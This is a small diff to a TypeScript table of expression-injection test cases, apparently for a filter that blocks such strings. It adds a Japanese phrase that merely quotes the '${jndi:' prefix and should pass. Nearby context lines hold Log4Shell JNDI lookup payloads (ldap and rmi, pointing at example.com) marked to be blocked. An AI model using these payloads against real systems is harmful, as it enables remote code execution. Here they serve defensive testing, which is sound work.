@@ -195,6 +195,7 @@ export const EXPRESSION_CASES: readonly ExpressionCase[] = [
         technique: "el-object-call",
         why: "session written",
     },
+    { text: "「${jndi:」で始まる文字列", want: "pass", why: "how it begins, quoted" },
     { text: "${jndi:ldap://example.com/a}", want: "block", technique: "jndi-lookup", why: "CVE-2021-44228" },
     {
         text: "${jndi:rmi://example.com/a",
